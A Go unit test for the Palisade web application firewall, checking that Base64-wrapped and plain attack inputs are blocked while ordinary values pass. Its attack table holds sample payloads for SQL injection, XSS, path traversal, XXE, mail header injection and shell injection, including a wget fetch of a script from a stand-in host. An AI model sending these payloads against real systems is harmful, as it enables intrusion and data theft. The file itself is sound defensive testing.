package waf

import (
	"encoding/base64"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"github.com/palisade-project/palisade/internal/waf/wafrule"
)

// Palisade's additions (rules.go) must catch Base64-wrapped attacks and
// the extra patterns, and must not flag ordinary values: prose, names,
// JSON, and opaque tokens that happen to be Base64 (session IDs, JWTs,
// hashes, random keys).
func TestPalisadeRules(t *testing.T) {
	c := mustCompile(t, Policy{Profile: Profile{Action: wafrule.Block, ParanoiaLevel: 1}})
	b64 := func(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }
	attacks := []struct{ name, target, body, ct string }{
		{"b64 sqli arg", "/?q=" + url.QueryEscape(b64("1' OR '1'='1' -- ")), "", ""},
		{"b64 xss arg", "/?q=" + url.QueryEscape(b64("<script>alert(document.cookie)</script>")), "", ""},
		{"b64 xss form", "/", "comment=" + url.QueryEscape(b64("<img src=x onerror=alert(1)>")), "application/x-www-form-urlencoded"},
		{"b64 traversal path", "/" + base64.RawURLEncoding.EncodeToString([]byte("/static/../../etc/passwd")), "", ""},
		{"b64 shell json", "/api", `{"cmd":"` + b64(";wget http://evil.example/x.sh") + `"}`, "application/json"},
		{"b64 ssi", "/?p=" + url.QueryEscape(b64(`<!--#exec cmd="ls" -->`)), "", ""},
		{"b64 nosql", "/?p=" + url.QueryEscape(b64(`true, $where: '99 == 88'`)), "", ""},
		{"xxe form", "/", "doc=" + url.QueryEscape(`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`), "application/x-www-form-urlencoded"},
		{"ldap", "/?user=" + url.QueryEscape("*(|(objectclass=*))"), "", ""},
		{"ssti", "/?name=" + url.QueryEscape("{{1337*1338}}"), "", ""},
		{"mail", "/?to=" + url.QueryEscape("a@b.c\r\nRCPT TO: victim@evil.example\r\n"), "", ""},
		{"js call", "/?q=" + url.QueryEscape("confirm.call(null,1)"), "", ""},
		{"shell chain", "/?host=" + url.QueryEscape("127.0.0.1; cat /etc/hosts"), "", ""},
	}
	for _, a := range attacks {
		method, h := "GET", map[string]string{}
		if a.body != "" {
			method, h["Content-Type"] = "POST", a.ct
		}
		if d := evaluate(t, c, nil, t0, reqSpec{method: method, target: a.target, body: a.body, header: h}); d.Action != wafrule.Block {
			t.Errorf("%s: not blocked (score %d, %v)", a.name, d.Score, d.RuleIDs)
		}
	}

	benign := []string{
		"Tom & Jerry; cat lovers welcome", "ls 300 lexus", "zsh is the best!", "JavaScript: Basics of JavaScript Language",
		"union was a great select", "Let's meet at 5 (or 6) at the café", "50% off {{sale}}",
		"Dear team,\nTo: everyone\nSubject: lunch\nQuit smoking!", "C:\\Users\\alice\\Documents", "a-b_c.d@example.com",
		"O'Brien", "path/to/file.txt", "https://example.com/a?b=c&d=e", "{\"name\":\"Alice\",\"age\":30}",
		"SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0", // "Hello world, this is a test"
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", // JWT header
		"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ",
		"d41d8cd98f00b204e9800998ecf8427e", "0f8fad5b-d9cb-469f-a165-70867728950e", "AKIAIOSFODNN7EXAMPLE",
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for range 500 {
		k := make([]byte, 12+rng.IntN(48))
		for i := range k {
			k[i] = byte(rng.Uint32())
		}
		benign = append(benign, base64.StdEncoding.EncodeToString(k), base64.RawURLEncoding.EncodeToString(k))
	}
	for _, v := range benign {
		for _, s := range []reqSpec{
			{target: "/search?q=" + url.QueryEscape(v)},
			{method: "POST", target: "/form", body: "field=" + url.QueryEscape(v), header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}},
		} {
			if d := evaluate(t, c, nil, t0, s); d.Action != wafrule.Pass {
				t.Errorf("%s %q: %v (score %d)", s.method, truncate(v, 60), d.RuleIDs, d.Score)
			}
		}
	}
	if dirs, err := Directives(Profile{}); err != nil || !strings.Contains(dirs, "SecRuleRemoveById 932250 941210 942190") {
		t.Error("Palisade's exclusions missing from the directives")
	}
}
